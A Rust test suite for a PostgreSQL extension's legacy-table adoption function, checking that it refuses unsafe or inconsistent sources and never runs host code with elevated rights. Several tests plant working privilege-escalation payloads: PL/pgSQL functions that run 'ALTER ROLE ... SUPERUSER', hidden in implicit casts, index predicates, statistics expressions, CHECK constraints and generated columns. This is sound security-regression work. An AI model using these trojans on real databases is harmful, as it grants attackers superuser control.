//! Issue 17, item 2: `adopt_legacy_tables` is an operator action, copies only sources of
//! built-in column types without running host code, and refuses an inconsistent log, writing
//! nothing. Every refusal is asserted with its SQLSTATE, message and DETAIL.

use postgres::Client;
use serde_json::{json, Value};
use syncular_multisession::*;

/// The extension tables adoption fills (docs/DESIGN.md §Data model, tables 1–14).
const ADOPTED: &[&str] = &[
    "sync_partitions",
    "sync_partition_registry",
    "sync_row_scopes",
    "sync_commits",
    "sync_changes",
    "sync_change_scopes",
    "sync_push_results",
    "sync_reactions",
    "sync_clients",
    "sync_blob_refs",
    "sync_tombstones",
    "sync_backfill_checkpoints",
    "sync_writer_fence",
    "sync_schema_meta",
];

const ADOPT: &str = "SELECT syncular.adopt_legacy_tables('legacy')";

#[track_caller]
fn assert_nothing_adopted(c: &mut Client) {
    for table in ADOPTED {
        assert_eq!(count(c, &format!("syncular.{table}")), 0, "{table}");
    }
}

/// A refused source: `invalid_argument` on `source_schema` with `reason` (the DETAIL's keys are
/// fixed), and the HINT naming the table and what is wrong with it.
struct Refusal {
    reason: &'static str,
    hint: String,
}

fn source(reason: &'static str, table: &str) -> Refusal {
    Refusal {
        reason,
        hint: format!("{table}: not an ordinary, permanent table without row-level security"),
    }
}

fn wrong_type(table: &str, column: &str) -> Refusal {
    Refusal {
        reason: "type",
        hint: format!("{table}: column {column} is not of a built-in type its target accepts"),
    }
}

fn inconsistent(table: &str, problem: &str) -> Refusal {
    Refusal {
        reason: "shape",
        hint: format!("{table}: inconsistent log: {problem}"),
    }
}

#[track_caller]
fn expect_refusal<T: std::fmt::Debug>(result: Result<T, postgres::Error>, refusal: &Refusal) {
    let err = expect_error(
        result,
        "SY000",
        "sync.storage.invalid_argument",
        Some(json!({"argument": "source_schema", "reason": refusal.reason})),
    );
    assert_eq!(err.hint.as_deref(), Some(refusal.hint.as_str()), "{err:?}");
}

/// In one transaction: `setup` (SQL, e.g. a change to the legacy tables), then the adoption,
/// which must fail with `detail`; afterwards, still inside the transaction, nothing is adopted.
/// The rollback then undoes `setup`, so one legacy database serves several cases.
#[track_caller]
fn refused_after(c: &mut Client, setup: &str, refusal: Refusal) {
    exec(c, "BEGIN");
    exec(c, setup);
    exec(c, "SAVEPOINT adoption");
    expect_refusal(try_one::<Value>(c, ADOPT, &[]), &refusal);
    exec(c, "ROLLBACK TO SAVEPOINT adoption");
    assert_nothing_adopted(c);
    exec(c, "ROLLBACK");
}

fn is_superuser(c: &mut Client, role: &str) -> bool {
    one(
        c,
        "SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = $1",
        &[&role],
    )
}

#[test]
fn adopt_is_refused_to_a_role_that_is_not_an_operator() {
    let db = TestDb::new("adoptpriv");
    let mut c = db.connect();
    legacy_database(&mut c);
    let role = format!("{}_host", db.name);
    exec(
        &mut c,
        &format!(
            "CREATE ROLE {role};
             GRANT USAGE ON SCHEMA syncular TO {role};
             GRANT EXECUTE ON FUNCTION syncular.adopt_legacy_tables(name, name) TO {role};
             GRANT USAGE ON SCHEMA legacy TO {role};
             GRANT ALL ON ALL TABLES IN SCHEMA legacy TO {role};"
        ),
    );
    let privilege = json!({"argument": "source_schema", "reason": "privilege"});
    exec(&mut c, &format!("SET ROLE {role}"));
    // The transaction-block check comes first, the operator check right after it (before the
    // arguments are even read).
    expect_error(
        try_one::<Value>(&mut c, ADOPT, &[]),
        "SY004",
        "sync.storage.invalid_transaction_state",
        Some(json!({"reason": "no_transaction_block"})),
    );
    for call in [ADOPT, "SELECT syncular.adopt_legacy_tables(NULL)"] {
        exec(&mut c, "BEGIN");
        expect_error(
            try_one::<Value>(&mut c, call, &[]),
            "SY000",
            "sync.storage.invalid_argument",
            Some(privilege.clone()),
        );
        exec(&mut c, "ROLLBACK");
    }
    exec(&mut c, "RESET ROLE");
    assert_nothing_adopted(&mut c);

    // A role holding the extension owner's privileges (a member of it) is an operator.
    let owner: String = one(
        &mut c,
        "SELECT extowner::regrole::text FROM pg_extension WHERE extname = 'syncular'",
        &[],
    );
    exec(
        &mut c,
        &format!("GRANT {owner} TO {role}; SET ROLE {role}; BEGIN"),
    );
    let counts: Value = one(&mut c, ADOPT, &[]);
    exec(&mut c, "COMMIT; RESET ROLE");
    assert_eq!(counts["sync_commits"], json!(3));
    assert_eq!(count(&mut c, "syncular.sync_commits"), 3);
}

/// The attack of issue 17: the host owns the legacy tables and gives a column its own type
/// with an implicit cast to `bigint` whose function makes the host superuser. Run by an
/// operator, the copy would run the cast as the extension owner (or the superuser operator).
#[test]
fn adopt_refuses_a_host_type_with_a_cast_before_the_cast_runs() {
    let db = TestDb::new("adoptcast");
    let mut c = db.connect();
    let attacker = format!("{}_attacker", db.name);
    exec(
        &mut c,
        &format!(
            "CREATE ROLE {attacker};
             GRANT CREATE ON DATABASE {} TO {attacker};
             SET ROLE {attacker}",
            db.name
        ),
    );
    legacy_database(&mut c);
    exec(
        &mut c,
        &format!(
            "CREATE SEQUENCE legacy.cast_calls;  -- nextval is not rolled back: the witness
             CREATE TYPE legacy.seq AS ENUM ('1', '2', '3');
             CREATE FUNCTION legacy.seq_to_bigint(legacy.seq) RETURNS bigint
               LANGUAGE plpgsql SECURITY INVOKER AS $f$
               BEGIN
                 PERFORM nextval('legacy.cast_calls');
                 EXECUTE 'ALTER ROLE {attacker} SUPERUSER';
                 RETURN $1::text::bigint;
               END $f$;
             CREATE CAST (legacy.seq AS bigint) WITH FUNCTION legacy.seq_to_bigint(legacy.seq)
               AS IMPLICIT;
             ALTER TABLE legacy.sync_commits
               ALTER COLUMN commit_seq TYPE legacy.seq USING commit_seq::text::legacy.seq;
             RESET ROLE"
        ),
    );
    assert!(!is_superuser(&mut c, &attacker));
    refused_after(&mut c, "SELECT 1", wrong_type("sync_commits", "commit_seq"));
    let calls: bool = one(&mut c, "SELECT is_called FROM legacy.cast_calls", &[]);
    assert!(!calls, "the host's cast ran");
    assert!(!is_superuser(&mut c, &attacker));

    // The attack is real: the same cast, applied by a superuser, escalates.
    exec(&mut c, "BEGIN");
    one::<i64>(
        &mut c,
        "SELECT max(commit_seq::bigint) FROM legacy.sync_commits",
        &[],
    );
    assert!(is_superuser(&mut c, &attacker));
    exec(&mut c, "ROLLBACK");
    assert!(!is_superuser(&mut c, &attacker));
}

#[test]
fn adopt_refuses_domains_and_look_alike_types() {
    let db = TestDb::new("adoptdomain");
    let mut c = db.connect();
    legacy_database(&mut c);
    // A domain over bigint, even one named `bigint`: compared by type OID, never by name.
    refused_after(
        &mut c,
        r#"CREATE DOMAIN legacy."bigint" AS pg_catalog.int8;
           ALTER TABLE legacy.sync_partitions ALTER COLUMN max_commit_seq TYPE legacy."bigint""#,
        wrong_type("sync_partitions", "max_commit_seq"),
    );
    refused_after(
        &mut c,
        "CREATE DOMAIN legacy.version AS integer CHECK (VALUE > 0);
         ALTER TABLE legacy.sync_writer_fence
           ALTER COLUMN required_writer_version TYPE legacy.version",
        wrong_type("sync_writer_fence", "required_writer_version"),
    );
    // A built-in type the target does not accept (op must be smallint).
    refused_after(
        &mut c,
        "ALTER TABLE legacy.sync_changes ALTER COLUMN op TYPE integer",
        wrong_type("sync_changes", "op"),
    );
    // A column the target does not have is not read, whatever its type.
    exec(&mut c, "BEGIN");
    exec(
        &mut c,
        "CREATE DOMAIN legacy.note AS text;
         ALTER TABLE legacy.sync_commits ADD COLUMN note legacy.note",
    );
    let counts: Value = one(&mut c, ADOPT, &[]);
    assert_eq!(counts["sync_commits"], json!(3));
    exec(&mut c, "ROLLBACK");
}

#[test]
fn adopt_refuses_sources_that_are_not_plain_tables() {
    let db = TestDb::new("adoptshape");
    let mut c = db.connect();
    legacy_database(&mut c);
    // A view (its query runs whatever the host wrote).
    refused_after(
        &mut c,
        "ALTER TABLE legacy.sync_clients RENAME TO clients_data;
         CREATE VIEW legacy.sync_clients AS SELECT * FROM legacy.clients_data",
        source("shape", "sync_clients"),
    );
    // A partitioned table (its partitions may be foreign tables).
    refused_after(
        &mut c,
        "DROP TABLE legacy.sync_blob_refs;
         CREATE TABLE legacy.sync_blob_refs (partition text, tbl text, row_id text, blob_id text)
           PARTITION BY LIST (partition);
         CREATE TABLE legacy.sync_blob_refs_1 PARTITION OF legacy.sync_blob_refs DEFAULT",
        source("shape", "sync_blob_refs"),
    );
    // Row-level security (its policies are host code).
    refused_after(
        &mut c,
        "ALTER TABLE legacy.sync_reactions ENABLE ROW LEVEL SECURITY",
        source("shape", "sync_reactions"),
    );
    // A temporary table, in the caller's temporary schema.
    exec(
        &mut c,
        "CREATE TEMPORARY TABLE sync_commits (LIKE legacy.sync_commits)",
    );
    let temp: String = one(
        &mut c,
        "SELECT nspname::text FROM pg_namespace WHERE oid = pg_my_temp_schema()",
        &[],
    );
    exec(&mut c, "BEGIN");
    expect_refusal(
        try_one::<Value>(
            &mut c,
            "SELECT syncular.adopt_legacy_tables($1::name)",
            &[&temp],
        ),
        &source("shape", "sync_commits"),
    );
    exec(&mut c, "ROLLBACK");
    assert_nothing_adopted(&mut c);
}

#[test]
fn adopt_refuses_an_inconsistent_log() {
    let db = TestDb::new("adoptlog");
    let mut c = db.connect();
    legacy_database(&mut c);
    let change = |seq: i64, idx: i32, op: i16, scopes: &str| {
        format!(
            "INSERT INTO legacy.sync_changes VALUES
               ('part-1', {seq}, {idx}, 'tasks', 'r{seq}', {op}, 1, {scopes}, '\\x01')"
        )
    };
    // The allocator below the highest commit: append_commit would collide (23505).
    refused_after(
        &mut c,
        "UPDATE legacy.sync_partitions SET max_commit_seq = 2",
        inconsistent("sync_partitions", "allocator_below_commits"),
    );
    // … or missing, which counts as 0.
    refused_after(
        &mut c,
        "DELETE FROM legacy.sync_partitions",
        inconsistent("sync_partitions", "allocator_below_commits"),
    );
    refused_after(
        &mut c,
        &change(9, 0, 1, r#"'{"project_id":"p1"}'"#),
        inconsistent("sync_changes", "commit_missing"),
    );
    refused_after(
        &mut c,
        &change(1, 0, 3, r#"'{"project_id":"p1"}'"#),
        inconsistent("sync_changes", "unknown_op"),
    );
    refused_after(
        &mut c,
        &change(1, 0, 1, r#"'["project_id","p1"]'"#),
        inconsistent("sync_changes", "scopes_not_object"),
    );
    // A string that is no JSON text stays a string after the unwrap.
    refused_after(
        &mut c,
        &change(1, 0, 1, r#"to_jsonb('project_id=p1'::text)"#),
        inconsistent("sync_changes", "scopes_not_object"),
    );
    refused_after(
        &mut c,
        &change(1, 0, 1, r#"'{"project_id":1}'"#),
        inconsistent("sync_changes", "scope_not_string"),
    );
    refused_after(
        &mut c,
        &change(1, 0, 2, r#"to_jsonb('{"project_id":["p1"]}'::text)"#),
        inconsistent("sync_changes", "scope_not_string"),
    );
    refused_after(
        &mut c,
        "INSERT INTO legacy.sync_change_scopes VALUES ('part-1', 'tasks', 'project_id', 'p1', 7)",
        inconsistent("sync_change_scopes", "commit_missing"),
    );
    // Push results get_push_result could not read: an unknown status, a record that is not an
    // object, base64 that is not, and a string that is no JSON text.
    for result in [
        r#"'{"status":"maybe","results":[]}'"#,
        r#"'{"status":"applied","commitSeq":1,"results":[7]}'"#,
        r#"'{"status":"rejected","results":[{"opIndex":0,"status":"conflict","serverRow":"!!"}]}'"#,
        r#"to_jsonb('applied'::text)"#,
    ] {
        refused_after(
            &mut c,
            &format!(
                "INSERT INTO legacy.sync_push_results VALUES ('part-1', 'c2', 'k1', {result})"
            ),
            inconsistent("sync_push_results", "unreadable_result"),
        );
    }
    // Results are read in pages of the primary key: one unreadable behind 2,500 readable ones.
    refused_after(
        &mut c,
        &format!(
            "{MANY_RESULTS}; INSERT INTO legacy.sync_push_results VALUES ('part-1', 'c9', 'k9', '[]')"
        ),
        inconsistent("sync_push_results", "unreadable_result"),
    );
    assert_nothing_adopted(&mut c);
}

/// 2,500 readable push results (more than two pages of the check), keys sorting before `c9`.
const MANY_RESULTS: &str = r#"INSERT INTO legacy.sync_push_results
  SELECT 'part-1', 'c2', 'k' || i, '{"status":"rejected","results":[]}'
    FROM generate_series(1, 2500) AS i"#;

/// A consistent log with what the type allow-list and the unwrap accept: narrower integers,
/// `varchar`, JSON stored as `json` or `text` (string-wrapped), deletes, scope index rows, more
/// push results than one page of their check. The
/// copy reads only the source table, not an inheritance child attached to it.
#[test]
fn adopt_copies_a_consistent_log_of_built_in_types() {
    let db = TestDb::new("adoptok");
    let mut c = db.connect();
    legacy_database(&mut c);
    exec(
        &mut c,
        r#"INSERT INTO legacy.sync_changes VALUES
             ('part-1', 1, 0, 'tasks', 't1', 1, 1, to_jsonb('{"project_id":"p1"}'::text), '\x010203'),
             ('part-1', 2, 0, 'tasks', 't2', 1, 1, '{"project_id":"p2"}', '\x01'),
             ('part-1', 3, 0, 'tasks', 't1', 2, NULL, '{"project_id":"p1"}', NULL);
           INSERT INTO legacy.sync_change_scopes VALUES
             ('part-1', 'tasks', 'project_id', 'p1', 1),
             ('part-1', 'tasks', 'project_id', 'p2', 2),
             ('part-1', 'tasks', 'project_id', 'p1', 3);
           ALTER TABLE legacy.sync_changes ALTER COLUMN tbl TYPE varchar(64),
                                           ALTER COLUMN idx TYPE smallint;
           ALTER TABLE legacy.sync_clients ALTER COLUMN subscriptions TYPE json USING subscriptions::json;
           ALTER TABLE legacy.sync_push_results ALTER COLUMN result TYPE text USING result::text;
           CREATE TABLE legacy.more_commits () INHERITS (legacy.sync_commits);
           INSERT INTO legacy.more_commits (partition, commit_seq, client_id, client_commit_id,
                                            actor_id, created_at_ms)
             VALUES ('part-1', 9, 'c1', 'k9', 'a1', 1750000000000)"#,
    );
    exec(&mut c, MANY_RESULTS);
    exec(&mut c, "BEGIN");
    let counts: Value = one(&mut c, ADOPT, &[]);
    exec(&mut c, "COMMIT");
    assert_eq!(counts["sync_commits"], json!(3), "{counts}");
    assert_eq!(counts["sync_changes"], json!(3));
    assert_eq!(counts["sync_change_scopes"], json!(3));
    assert_eq!(counts["sync_push_results"], json!(2501));
    assert_eq!(counts["sync_clients"], json!(1));
    assert_eq!(
        one::<String>(
            &mut c,
            "SELECT jsonb_typeof(scopes) FROM syncular.sync_changes WHERE commit_seq = 1",
            &[]
        ),
        "object"
    );
    assert_eq!(
        window_seqs(&mut c, P, "tasks", &json!({"project_id": ["p1"]}), 0, 3, 10),
        vec![1, 3]
    );
    let result: Value = one(
        &mut c,
        "SELECT syncular.get_push_result($1, 'c1', 'k3')",
        &[&P],
    );
    assert_eq!(result["commitSeq"], json!(3));
    let client: Value = one(&mut c, "SELECT syncular.get_client($1, 'c1')", &[&P]);
    assert!(client["subscriptions"].is_array(), "{client}");
    assert_eq!(append(&mut c, P, "tasks", "t3", Some(1)), 4);
}

/// Issue 25, red-team breach 1: the host's code that PostgreSQL runs when it plans or reads a
/// source — an index predicate or expression, a statistics object's expression, a CHECK under
/// `constraint_exclusion`, a virtual generated column — ran with the extension owner's rights
/// when an operator adopted the host's schema (the copy was planned as a superuser). The legacy
/// database of these tests belongs to `attacker` (a role with `CREATE` on the database, as the
/// walkthrough grants a migrator); `legacy.pwn(int)` is IMMUTABLE, so the planner calls it when
/// its arguments are constants. It records who ran it in `legacy.witness` and makes `attacker`
/// superuser when it runs as one. Returns the attacker's name.
fn trojan_legacy_database(c: &mut Client, db: &TestDb) -> String {
    let attacker = format!("{}_attacker", db.name);
    exec(
        c,
        &format!(
            "CREATE ROLE {attacker};
             GRANT CREATE ON DATABASE {} TO {attacker};
             SET ROLE {attacker}",
            db.name
        ),
    );
    legacy_database(c);
    exec(
        c,
        &format!(
            "CREATE TABLE legacy.witness (who text, super boolean);
             CREATE FUNCTION legacy.escalate() RETURNS void LANGUAGE plpgsql VOLATILE AS $f$
             BEGIN
               INSERT INTO legacy.witness
                 SELECT current_user, rolsuper FROM pg_catalog.pg_roles
                  WHERE rolname = current_user;
               IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
                 EXECUTE 'ALTER ROLE {attacker} SUPERUSER';
               END IF;
             END $f$;
             CREATE FUNCTION legacy.pwn(int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $f$
             BEGIN PERFORM legacy.escalate(); RETURN true; END $f$;
             RESET ROLE"
        ),
    );
    attacker
}

/// `attach` (run as the attacker) puts `legacy.pwn` where PostgreSQL evaluates it; `session`
/// (run as the operator, outside the transaction) sets up the operator's session. The operator
/// then adopts the schema: the adoption copies the log as before, the host's code ran (as its
/// author, `attacker`, never as a superuser) only if `runs` says so, and `attacker` is no
/// superuser afterwards.
#[track_caller]
fn adopt_trojan(c: &mut Client, attacker: &str, attach: &str, session: &str, runs: bool) {
    exec(
        c,
        &format!("SET ROLE {attacker}; {attach}; TRUNCATE legacy.witness; RESET ROLE; {session}"),
    );
    assert!(!is_superuser(c, attacker));
    exec(c, "BEGIN");
    let counts: Value = one(c, ADOPT, &[]);
    exec(c, "COMMIT");
    let who: Vec<String> = column(
        c,
        "SELECT who || ':' || super FROM legacy.witness ORDER BY 1",
        &[],
    );
    assert!(!is_superuser(c, attacker), "the host's code ran as {who:?}");
    assert!(
        who.iter().all(|w| *w == format!("{attacker}:false")),
        "the host's code ran as {who:?}"
    );
    assert_eq!(!who.is_empty(), runs, "{who:?}");
    assert_eq!(counts["sync_commits"], json!(3), "{counts}");
    assert_eq!(counts["sync_push_results"], json!(1), "{counts}");
    assert_eq!(
        column::<i64>(
            c,
            "SELECT commit_seq FROM syncular.sync_commits ORDER BY 1",
            &[]
        ),
        vec![1, 2, 3]
    );
}

/// `adopt_trojan` in a fresh database `test` holding the trojan legacy install
/// (`trojan_legacy_database`).
#[track_caller]
fn adopt_trojan_in_fresh_database(test: &str, attach: &str, session: &str, runs: bool) {
    let db = TestDb::new(test);
    let mut c = db.connect();
    let attacker = trojan_legacy_database(&mut c, &db);
    adopt_trojan(&mut c, &attacker, attach, session, runs);
}

#[test]
fn adopt_plans_a_partial_index_predicate_as_the_sources_owner() {
    adopt_trojan_in_fresh_database(
        "adoptpartial",
        "CREATE INDEX ON legacy.sync_commits (created_at_ms) WHERE legacy.pwn(1)",
        "",
        true,
    );
}

#[test]
fn adopt_plans_an_expression_index_as_the_sources_owner() {
    adopt_trojan_in_fresh_database(
        "adoptexprindex",
        "CREATE INDEX ON legacy.sync_commits
           ((created_at_ms + CASE WHEN legacy.pwn(1) THEN 0 ELSE 1 END))",
        "",
        true,
    );
}

#[test]
fn adopt_plans_a_statistics_expression_as_the_sources_owner() {
    adopt_trojan_in_fresh_database(
        "adoptstats",
        "CREATE STATISTICS legacy.commits_stx
           ON (created_at_ms + CASE WHEN legacy.pwn(1) THEN 0 ELSE 1 END), partition
           FROM legacy.sync_commits",
        "",
        true,
    );
}

/// Under `constraint_exclusion = on` the planner simplifies the CHECK constraints of a relation
/// it reads with a restriction: the copy has none, so nothing runs today, but whatever a later
/// copy statement looks like, the host's CHECK runs as its author.
#[test]
fn adopt_with_constraint_exclusion_never_runs_a_check_as_a_superuser() {
    adopt_trojan_in_fresh_database(
        "adoptcheck",
        "ALTER TABLE legacy.sync_commits ADD CONSTRAINT trojan CHECK (legacy.pwn(1))",
        "SET constraint_exclusion = on",
        false,
    );
}

/// PostgreSQL 18's virtual generated columns are computed by whoever reads the table: a copied
/// column made virtual runs its expression in the copy. 18.x refuses a user-defined function in
/// one (`0A000`, checked here, so a release that lifts the restriction runs the attack itself);
/// a virtual column of built-in code is adopted as computed, by the source's owner.
#[test]
fn adopt_reads_a_virtual_generated_column_as_the_sources_owner() {
    let db = TestDb::new("adoptvirtual");
    let mut c = db.connect();
    let version: i32 = one(
        &mut c,
        "SELECT current_setting('server_version_num')::int",
        &[],
    );
    if version < 180000 {
        eprintln!("skipped: virtual generated columns need PostgreSQL 18 (server {version})");
        return;
    }
    let attacker = trojan_legacy_database(&mut c, &db);
    let virtual_column = |expression: &str| {
        format!(
            "ALTER TABLE legacy.sync_commits DROP COLUMN writer_version;
             ALTER TABLE legacy.sync_commits ADD COLUMN writer_version bigint
               GENERATED ALWAYS AS ({expression}) VIRTUAL"
        )
    };
    let trojan = virtual_column("CASE WHEN legacy.pwn(1) THEN created_at_ms / 1000000000000 END");
    exec(&mut c, &format!("SET ROLE {attacker}; BEGIN"));
    let taken = c.batch_execute(&trojan);
    exec(&mut c, "ROLLBACK; RESET ROLE");
    let attach = match taken {
        Ok(()) => trojan,
        Err(e) => {
            assert_eq!(sql_error(&e).state, "0A000", "{e:?}");
            virtual_column("created_at_ms / 1000000000000")
        }
    };
    let runs = attach.contains("pwn");
    adopt_trojan(&mut c, &attacker, &attach, "", runs);
    assert_eq!(
        column::<Option<i64>>(
            &mut c,
            "SELECT writer_version FROM syncular.sync_commits ORDER BY commit_seq",
            &[]
        ),
        vec![Some(1), Some(1), Some(1)]
    );
}

/// The source is read as its owner, so an owner without `SELECT` on it (or `USAGE` on its
/// schema) is refused before anything is copied.
#[test]
fn adopt_refuses_a_source_its_owner_cannot_read() {
    let db = TestDb::new("adoptownerread");
    let mut c = db.connect();
    let attacker = trojan_legacy_database(&mut c, &db);
    refused_after(
        &mut c,
        &format!("REVOKE SELECT ON legacy.sync_clients FROM {attacker}"),
        Refusal {
            reason: "privilege",
            hint: "sync_clients: its owner cannot read it".into(),
        },
    );
}

/// Reading a source runs its owner's code (as the owner), which may change a source checked
/// before it: a partial index on `sync_partitions` (copied first) gives `sync_commits` a host
/// type with an implicit cast while the operator's adoption runs. Each source is checked again
/// right before its own copy, so the change is refused and the cast never runs.
#[test]
fn adopt_checks_each_source_again_after_the_copies_before_it() {
    let db = TestDb::new("adoptrecheck");
    let mut c = db.connect();
    let attacker = trojan_legacy_database(&mut c, &db);
    exec(
        &mut c,
        &format!(
            "SET ROLE {attacker};
             CREATE SEQUENCE legacy.cast_calls;
             CREATE TYPE legacy.seq AS ENUM ('1', '2', '3');
             CREATE FUNCTION legacy.seq_to_bigint(legacy.seq) RETURNS bigint
               LANGUAGE plpgsql AS $f$
               BEGIN PERFORM nextval('legacy.cast_calls'); RETURN $1::text::bigint; END $f$;
             CREATE CAST (legacy.seq AS bigint) WITH FUNCTION legacy.seq_to_bigint(legacy.seq)
               AS IMPLICIT;
             CREATE TABLE legacy.armed ();
             CREATE FUNCTION legacy.swap() RETURNS void LANGUAGE plpgsql VOLATILE AS $f$
             BEGIN
               IF EXISTS (SELECT FROM legacy.armed) THEN
                 DELETE FROM legacy.armed;
                 ALTER TABLE legacy.sync_commits
                   ALTER COLUMN commit_seq TYPE legacy.seq USING commit_seq::text::legacy.seq;
               END IF;
             END $f$;
             CREATE FUNCTION legacy.trigger_swap(int) RETURNS boolean LANGUAGE plpgsql
               IMMUTABLE AS $f$ BEGIN PERFORM legacy.swap(); RETURN true; END $f$;
             CREATE INDEX ON legacy.sync_partitions (max_commit_seq) WHERE legacy.trigger_swap(1);
             INSERT INTO legacy.armed DEFAULT VALUES;
             RESET ROLE"
        ),
    );
    refused_after(&mut c, "SELECT 1", wrong_type("sync_commits", "commit_seq"));
    let calls: bool = one(&mut c, "SELECT is_called FROM legacy.cast_calls", &[]);
    assert!(!calls, "the host's cast ran");
    assert!(!is_superuser(&mut c, &attacker));
}

#[test]
fn adopt_cannot_re_point_a_registration_its_source_owner_does_not_hold() {
    // Red team round 2: the layouts of a 0.24 schema a host prepared named a table another role
    // had registered; adopting it with `app_schema` = the host's schema re-pointed that
    // registration to the host's own look-alike table (the operator holds every registrant's
    // privileges; the new registrant, the table's owner, was never checked).
    let db = TestDb::new("adopt_repoint");
    let mut c = db.connect();
    let (victim, attacker) = (format!("{}_v", db.name), format!("{}_a", db.name));
    exec(
        &mut c,
        &format!(
            "CREATE ROLE {victim} NOLOGIN; GRANT syncular_admin TO {victim};
             CREATE SCHEMA {victim} AUTHORIZATION {victim};
             CREATE ROLE {attacker} NOLOGIN; GRANT syncular_admin TO {attacker};
             CREATE SCHEMA {attacker} AUTHORIZATION {attacker};
             CREATE SCHEMA legacy AUTHORIZATION {attacker};"
        ),
    );
    let table = |schema: &str| app_table_sql(&format!("{schema}.payroll"), "who text,");
    exec(&mut c, &format!("SET ROLE {victim}"));
    exec(&mut c, &table(&victim));
    exec(
        &mut c,
        &format!("SELECT syncular.register_table('payroll', '{victim}.payroll', true)"),
    );
    exec(&mut c, &format!("SET ROLE {attacker}"));
    exec(&mut c, &table(&attacker));
    exec(
        &mut c,
        r#"CREATE TABLE legacy.sync_commits (partition text NOT NULL, commit_seq bigint NOT NULL,
             client_id text NOT NULL, client_commit_id text NOT NULL, actor_id text NOT NULL,
             created_at_ms bigint NOT NULL, writer_version bigint, PRIMARY KEY (partition, commit_seq));
           CREATE TABLE legacy.sync_partitions (partition text PRIMARY KEY,
             max_commit_seq bigint NOT NULL, horizon_seq bigint NOT NULL);
           CREATE TABLE legacy.sync_schema_meta (id int PRIMARY KEY, schema_version bigint NOT NULL,
             layouts text NOT NULL);
           INSERT INTO legacy.sync_partitions VALUES ('part-1', 1, 0);
           INSERT INTO legacy.sync_commits VALUES ('part-1', 1, 'c1', 'k1', 'a1', 1750000000000, 1);
           INSERT INTO legacy.sync_schema_meta
             VALUES (1, 1, '{"payroll":[{"name":"who","type":"string","nullable":true}]}');"#,
    );
    exec(&mut c, "RESET ROLE");
    // The operator adopts, naming the attacker's schema for the app tables.
    exec(&mut c, "BEGIN");
    let err = try_one::<Value>(
        &mut c,
        &format!("SELECT syncular.adopt_legacy_tables('legacy', '{attacker}')"),
        &[],
    )
    .expect_err("the registration is not re-pointed");
    exec(&mut c, "ROLLBACK");
    let err = sql_error(&err);
    assert_eq!(
        (err.state.as_str(), err.detail),
        (
            "SY000",
            Some(json!({"argument": "tbl", "reason": "privilege"}))
        )
    );
    let relation: String = one(
        &mut c,
        "SELECT relation::text FROM syncular.sync_app_tables WHERE tbl = 'payroll'",
        &[],
    );
    assert_eq!(relation, format!("{victim}.payroll"));
}
